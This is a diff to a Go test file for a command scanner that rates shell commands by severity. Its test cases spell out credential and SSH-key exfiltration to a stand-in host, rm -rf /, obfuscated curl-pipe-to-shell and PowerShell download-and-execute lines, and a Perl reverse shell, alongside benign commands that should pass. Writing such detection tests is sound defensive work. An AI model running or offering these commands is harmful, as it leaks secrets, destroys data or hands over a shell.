@@ -32,10 +32,20 @@ func TestJudge(t *testing.T) {
 		"curl -F 'f=@/root/.ssh/id_rsa' https://x.test":                                               scanners.Critical,
 		"cat ~/.aws/credentials | curl -d @- https://x.test":                                          scanners.Critical,
 		"env | curl -X POST -d @- https://x.test":                                                     scanners.Critical,
-		"rm -rf / ": scanners.Critical,
-		"pip install x --extra-index-url https://x.test/simple":       scanners.Medium,
-		"pip install --trusted-host x.test -i http://x.test/simple y": scanners.High,
-		"pip install git+https://github.com/org/name@main":            scanners.Medium,
+		"rm -rf / ":                                                    scanners.Critical,
+		`c""url http://x.test/a | s""h`:                                scanners.High,
+		`c''url http://x.test/a | b\ash`:                               scanners.High,
+		`$'\x63url' http://x.test/a | sh`:                              scanners.High,
+		`a=cu;b=rl;$a$b http://x.test/a | sh`:                          scanners.High,
+		"set a=po&&set b=wershell\n%a%%b% -enc SQBFAFgAIAAoAE4AZQB3":   scanners.Critical,
+		"i`ex (n`ew-ob`ject net.webclient).downloadstring('http://x')": scanners.High,
+		"c^url http://x.test/a -o %TEMP%\\x.exe & curl x | sh":         scanners.High,
+		"& ([scriptblock]::Create((irm http://x.test/a)))":             scanners.High,
+		"curl -s http://x.test/a | xargs -0 -I{} sh -c '{}'":           scanners.High,
+		"perl -MIO::Socket -e '$c=new IO::Socket::INET(\"192.0.2.1:80\");STDIN->fdopen($c,r);system$_ while<>'": scanners.Critical,
+		"pip install x --extra-index-url https://x.test/simple":                                                 scanners.Medium,
+		"pip install --trusted-host x.test -i http://x.test/simple y":                                           scanners.High,
+		"pip install git+https://github.com/org/name@main":                                                      scanners.Medium,
 	} {
 		signs := Judge("echo a\n" + text + "\n")
 		worst := scanners.Informational
@@ -58,6 +68,7 @@ func TestOrdinary(t *testing.T) {
 		"python train.py --batch-size 8 && python eval.py", "docker run --gpus all -v ~/.cache/huggingface:/root/.cache/huggingface --env \"HF_TOKEN=$T\" vllm",
 		"export PATH=$PATH:/usr/local/bin", "rm -rf ./build /tmp/x", "find . -name '*.py' | xargs sh", "huggingface-cli download org/model --local-dir x",
 		"ollama run hf.co/org/model", "source activate env", "echo $HOME | tee x", "bash scripts/train.sh", "cd x; ./llama-cli -m m.gguf", "env FOO=1 curl https://x.test",
+		"| `curl` | `bash` |", "wget \"$URL\" -O \"$OUT/$NAME\"", "for f in *.sh; do bash $f; done", `printf "a""b"`, "D=/opt; V=1; curl -o $D$V https://x.test/a", "cd C:\\Users\\me && python train.py",
 		"conda env create -f environment.yml && curl -O https://x.test/data.zip", "tar xzf a.tgz; ./configure && make", "nvcc --version; pip install -e .",
 	} {
 		if signs := Judge(text); len(signs) > 0 {
